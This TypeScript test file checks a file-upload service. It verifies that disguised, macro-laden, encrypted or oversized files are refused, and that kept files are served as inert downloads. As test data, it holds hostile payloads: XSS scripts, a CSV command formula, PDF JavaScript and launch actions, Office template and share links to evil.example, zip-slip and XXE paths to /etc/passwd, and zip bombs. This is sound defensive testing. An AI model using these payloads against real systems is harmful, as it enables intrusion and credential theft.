import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { meetingId } from '../demo/public.ts'
import { startTestApp, type TestApp, type TestCaller } from '../test-kit/test-kit.ts'
import { expectRefusal } from '../test-kit/test-state.ts'
import { pdf, type SentTestFile, uploadFiles } from './closing-test-kit.ts'
import {
  encryptedOffice,
  hugePng,
  noise,
  office,
  packedObjects,
  pdfOf,
  photo,
  relations,
  text,
  virusMark,
  withDirectory,
} from './hostile-test-kit.ts'

const TABLES = ['closing_file', 'stored_file', 'meeting_event']
const engagementId = meetingId('cv.toClose1')
const HTML = '<html><script>alert(1)</script></html>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
const MZ = Buffer.from('MZ\x90\x00 This program cannot be run in DOS mode', 'latin1')

let app: TestApp
let lin: TestCaller
let activityCode = ''
beforeAll(async () => {
  app = await startTestApp()
  lin = await app.as('lin')
  activityCode = (await lin.call('closing', 'detail', { engagementId })).data.activityCode
})
afterAll(() => app.close())

const send = (file: SentTestFile) => uploadFiles(app, lin, { engagementId, activityCode }, [file])
const bytes = (words: string) => Buffer.from(words, 'latin1')
type Made = Buffer | (() => Buffer | Promise<Buffer>)
const made = (content: Made) => (typeof content === 'function' ? content() : content)

describe('kinds that are not what they say: 26019, 26020', () => {
  it.each<[string, string, string, Made]>([
    ['html as a picture', '26020', 'a.jpg', bytes(HTML)],
    ['svg as a picture', '26020', 'a.png', bytes(SVG)],
    ['svg', '26019', 'a.svg', bytes(SVG)],
    ['html', '26019', 'a.html', bytes(HTML)],
    ['a program', '26019', 'a.exe', MZ],
    ['a program as a picture', '26020', 'a.jpg', MZ],
    ['a program as a document', '26020', 'a.pdf', MZ],
    ['a picture, then a program’s ending', '26019', 'scan.jpg.exe', () => photo('jpeg')],
    ['a GIF that is a script too', '26019', 'a.gif', bytes('GIF89a=1;alert(1)')],
    ['the same as a picture of ours', '26020', 'a.png', bytes('GIF89a=1;alert(1)')],
    ['a spreadsheet of formulas as text', '26019', 'a.csv', bytes('=cmd|"/c calc"!A1')],
    ['a macro document by its own name', '26019', 'a.docm', office('docx')],
    ['a macro workbook by its own name', '26019', 'a.xlsm', office('xlsx')],
    ['a shortcut', '26019', 'a.lnk', bytes('L\0\0\0')],
    ['a zip', '26019', 'a.zip', office('docx')],
    ['a plain zip as a document', '26020', 'a.docx', bytes('PK\x03\x04 nothing of Word')],
    ['Word as Excel', '26020', 'a.xlsx', office('docx')],
    ['a PDF that does not begin as one', '26020', 'a.pdf', bytes(`${HTML}\n%PDF-1.7\n%%EOF`)],
    ['a PNG as a document', '26020', 'a.pdf', () => photo('png')],
    ['a PDF as a picture', '26020', 'a.jpg', pdf('x')],
    ['HEIC, which nobody here can draw anew', '26019', 'a.heic', bytes('\0\0\0\x18ftypheic\0\0\0\0')],
  ])('%s: %s', async (_name, code, name, content) => {
    const file = await made(content)
    await expectRefusal(app, TABLES, code, () => send({ name, content: file }))
  })
})

describe('documents that do more than show themselves: 31100 and on', () => {
  const bomb = { 'word/media/a.xml': Buffer.alloc(60 * 1024 * 1024) }
  it.each<[string, string, string, Made]>([
    ['macros under another ending', '31100', 'a.docx', office('docx', { 'word/vbaProject.bin': text('x') })],
    ['old Excel macros', '31100', 'a.xlsx', office('xlsx', { 'xl/macrosheets/sheet1.xml': text('<x/>') })],
    ['a macro type', '31100', 'a.docx', office('docx', { '[Content_Types].xml': text('<Types macroEnabled="x"/>') })],
    ['a password on Word', '31101', 'a.docx', encryptedOffice],
    ['a password on the zip', '31101', 'a.xlsx', withDirectory(office('xlsx'), (entry) => entry.writeUInt16LE(1, 8))],
    ['a password on a PDF', '31101', 'a.pdf', pdfOf('<< >>', '<< /Encrypt 5 0 R >>')],
    ['a script in a PDF', '31102', 'a.pdf', pdfOf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')],
    ['the same with its name disguised', '31102', 'a.pdf', pdfOf('<< /S /J#61vaScript >>')],
    ['the same in a packed object', '31102', 'a.pdf', pdfOf(packedObjects('1 0 << /S /JavaScript /JS (x) >>'))],
    ['a program a PDF starts', '31102', 'a.pdf', pdfOf('<< /S /Launch /F (calc.exe) >>')],
    ['a file inside a PDF', '31102', 'a.pdf', pdfOf('<< /EmbeddedFiles 2 0 R >>')],
    ['a form of XFA', '31102', 'a.pdf', pdfOf('<< /AcroForm << /XFA 3 0 R >> >>')],
    ['a packed PDF object of 40 MB', '31103', 'a.pdf', () => pdfOf(packedObjects(' '.repeat(40 * 1024 * 1024)))],
    ['an OLE object in Word', '31102', 'a.docx', office('docx', { 'word/embeddings/oleObject1.bin': text('x') })],
    ['an ActiveX control', '31102', 'a.docx', office('docx', { 'word/activeX/activeX1.xml': text('<x/>') })],
    ['a program inside', '31102', 'a.pptx', office('pptx', { 'ppt/media/run.exe': MZ })],
    [
      'a template from elsewhere',
      '31102',
      'a.docx',
      office('docx', { 'word/_rels/settings.xml.rels': relations('attachedTemplate', 'https://evil.example/t.dotm') }),
    ],
    [
      'a picture from a share, which gives a password away',
      '31102',
      'a.docx',
      office('docx', { 'word/_rels/document.xml.rels': relations('image', '\\\\evil.example\\a.png') }),
    ],
    ['a zip bomb', '31103', 'a.docx', () => office('docx', bomb)],
    [
      'parts that share bytes',
      '31103',
      'a.docx',
      () => withDirectory(office('docx'), (entry) => entry.writeUInt32LE(900_000, 20)),
    ],
    [
      'five thousand and more parts',
      '31103',
      'a.docx',
      () => office('docx', Object.fromEntries(Array.from({ length: 5_001 }, (_, at) => [`word/${at}`, text('')]))),
    ],
    ['a way out of the folder', '31104', 'a.docx', office('docx', { '../../etc/passwd': text('x') })],
    ['a way from the root', '31104', 'a.docx', office('docx', { '/etc/passwd': text('x') })],
    ['a Windows way out', '31104', 'a.docx', office('docx', { '..\\run.txt': text('x') })],
    [
      'a link instead of a file',
      '31104',
      'a.docx',
      withDirectory(office('docx'), (entry) => entry.writeUInt32LE(0xa1ff_0000, 38)),
    ],
    [
      'an outer entity',
      '31104',
      'a.docx',
      office('docx', { 'word/document.xml': text('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>') }),
    ],
    [
      'a billion laughs in UTF-16',
      '31104',
      'a.xlsx',
      office('xlsx', { 'xl/workbook.xml': Buffer.from('\ufeff<!DOCTYPE l [<!ENTITY l "ha">]><l/>', 'utf16le') }),
    ],
    ['another file behind the zip', '31104', 'a.docx', Buffer.concat([office('docx'), bytes(HTML)])],
    ['another file behind the PDF', '31104', 'a.pdf', Buffer.concat([pdfOf('<< >>'), office('docx')])],
    ['a page inside the PDF', '31104', 'a.pdf', pdfOf(`<< >> ${HTML}`)],
    ['the mark of a virus in a PDF', '31105', 'a.pdf', () => pdf(virusMark())],
    [
      'the mark of a virus behind a picture',
      '31105',
      'a.jpg',
      async () => Buffer.concat([await photo('jpeg'), bytes(virusMark())]),
    ],
    ['four thousand million pixels', '31106', 'a.png', hugePng(65_500, 65_500)],
    ['a picture cut off', '26052', 'a.jpg', async () => (await noise()).subarray(0, 9_000)],
    ['a PDF cut off', '26052', 'a.pdf', bytes('%PDF-1.7\n1 0 obj\n<<')],
    ['a zip cut off', '26052', 'a.docx', office('docx').subarray(0, -30)],
  ])('%s: %s', async (_name, code, name, content) => {
    const file = await made(content)
    await expectRefusal(app, TABLES, code, () => send({ name, content: file }))
  })
})

describe('names', () => {
  let serial = 0
  it.each([
    ['../../../etc/passwd.pdf', 'passwd.pdf'],
    ['C:\\Windows\\win.pdf', 'win.pdf'],
    ['invoice\u200bfdp.pdf', 'invoicefdp.pdf'],
    ['CON.pdf', '_CON.pdf'],
    ['合同📄王医生.pdf', '合同📄王医生.pdf'],
    ['e\u0301tude.pdf', 'étude.pdf'],
    ['  spaces  .pdf', 'spaces.pdf'],
    ['=cmd.pdf', '=cmd.pdf'],
    ['a.pdf::$DATA', 'a.pdf__$DATA.pdf'],
  ])('%j is kept as %s', async (name, kept) => {
    serial += 1
    const { data, msg } = await send({ name: 'x.pdf', fileName: name, content: pdf(`name ${serial}`) })
    expect([msg, data[0]?.fileName]).toEqual(['', kept])
  })
  it.each([
    ['exe.\u202egpj', '11012'],
    ['photo.jpg\u0000.html', '11012'],
    ['photo.jpg.html', '26019'],
    ['photo.exe .', '26019'],
    ['   .pdf', '26026'],
    ['..', '26025'],
  ])('%j is refused with %s', async (name, code) => {
    await expectRefusal(app, TABLES, code, () => send({ name, content: pdf('refused') }))
  })
})

describe('what is kept comes back as a file to save, and runs nowhere', () => {
  const fetched = async (file: SentTestFile) => {
    const { data, msg } = await send(file)
    expect(msg).toBe('')
    const { data: link } = await lin.call('closing', 'getFileUrl', { attachmentId: data[0]?.attachmentId ?? '' })
    return app.app.inject({ method: 'GET', url: link.url, headers: { token: lin.token ?? '' } })
  }

  it.each<[string, SentTestFile['name'], Made, string]>([
    ['a JPEG that is a page too', 'a.jpg', async () => Buffer.concat([await photo('jpeg'), bytes(HTML)]), 'image/jpeg'],
    ['a PNG with a page behind', 'a.png', async () => Buffer.concat([await photo('png'), bytes(HTML)]), 'image/png'],
    [
      'a WebP that is a zip too',
      'a.webp',
      async () => Buffer.concat([await photo('webp'), office('docx')]),
      'image/webp',
    ],
    [
      'a document with a link to press',
      'l.docx',
      office('docx', { 'word/_rels/d.xml.rels': relations('hyperlink', 'https://a.example') }),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    ],
    ['a plain PDF', 'p.pdf', pdfOf('<< /Type /Catalog >>'), 'application/pdf'],
  ])('%s', async (_name, name, content, mediaType) => {
    const file = await fetched({ name, content: await made(content) })
    expect(file.headers).toMatchObject({
      'content-type': mediaType,
      'content-disposition': expect.stringMatching(/^attachment; filename\*=UTF-8''/),
      'content-security-policy': "default-src 'none'; sandbox",
      'x-content-type-options': 'nosniff',
      'cache-control': 'private, no-store',
    })
    if (mediaType.startsWith('image/')) expect(file.rawPayload.includes('<script>')).toBe(false)
  })

  it('a link is dead once the file was deleted', async () => {
    const { data } = await send({ name: 'gone.pdf', content: pdf('gone') })
    const attachmentId = data[0]?.attachmentId ?? ''
    const { data: link } = await lin.call('closing', 'getFileUrl', { attachmentId })
    await lin.call('closing', 'deleteClosingFile', { attachmentId })
    const late = await app.app.inject({ method: 'GET', url: link.url, headers: { token: lin.token ?? '' } })
    expect(late.json()).toMatchObject({ code: '26001' })
  })

  it('a link does not open for another person, without a session, or after five minutes', async () => {
    const { data } = await send({ name: 'mine.pdf', content: pdf('mine') })
    const { data: link } = await lin.call('closing', 'getFileUrl', { attachmentId: data[0]?.attachmentId ?? '' })
    const zhou = await app.as('zhou')
    const foreign = await app.app.inject({ method: 'GET', url: link.url, headers: { token: zhou.token ?? '' } })
    const missing = await app.app.inject({
      method: 'GET',
      url: `${link.url.slice(0, -1)}x`,
      headers: { token: zhou.token ?? '' },
    })
    expect(foreign.json().code).toBe('26001')
    expect({ ...foreign.json(), requestId: '' }).toEqual({ ...missing.json(), requestId: '' })
    const nobody = await app.app.inject({ method: 'GET', url: link.url })
    expect(nobody.json()).toMatchObject({ code: '401', data: null })
  })
})
